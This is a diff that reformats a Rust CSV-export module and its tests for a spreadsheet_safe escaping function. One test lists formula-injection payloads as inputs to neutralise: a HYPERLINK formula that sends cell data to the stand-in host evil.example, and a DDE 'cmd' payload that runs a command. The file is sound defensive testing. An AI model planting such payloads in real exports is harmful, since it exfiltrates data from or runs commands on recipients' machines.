@@ -31,7 +31,10 @@ where
     C: IntoIterator,
     C::Item: AsRef<str>,
 {
-    fn write_row<I: IntoIterator<Item = impl AsRef<str>>>(w: &mut csv::Writer<Vec<u8>>, cells: I) -> Result<(), String> {
+    fn write_row<I: IntoIterator<Item = impl AsRef<str>>>(
+        w: &mut csv::Writer<Vec<u8>>,
+        cells: I,
+    ) -> Result<(), String> {
         for cell in cells {
             w.write_field(spreadsheet_safe(cell.as_ref()).as_bytes()).map_err(|e| e.to_string())?;
         }
@@ -51,7 +54,16 @@ mod tests {
 
     #[test]
     fn formulas_become_text() {
-        for formula in ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "=", "-"] {
+        for formula in [
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1)",
+            "\tTAB",
+            "\rCR",
+            "=",
+            "-",
+        ] {
             let safe = spreadsheet_safe(formula);
             assert_eq!(safe, format!("'{formula}"), "{formula:?}");
         }
@@ -59,7 +71,9 @@ mod tests {
 
     #[test]
     fn ordinary_text_and_numbers_stay_as_they_are() {
-        for cell in ["Kangoo Lyon", "AB-123-CD", "", "'quoted", "12", "-12", "-0.5", "+33", "2026-06-02T18:36:51+00:00", "a=b"] {
+        for cell in
+            ["Kangoo Lyon", "AB-123-CD", "", "'quoted", "12", "-12", "-0.5", "+33", "2026-06-02T18:36:51+00:00", "a=b"]
+        {
             assert_eq!(spreadsheet_safe(cell), cell, "{cell:?}");
         }
     }
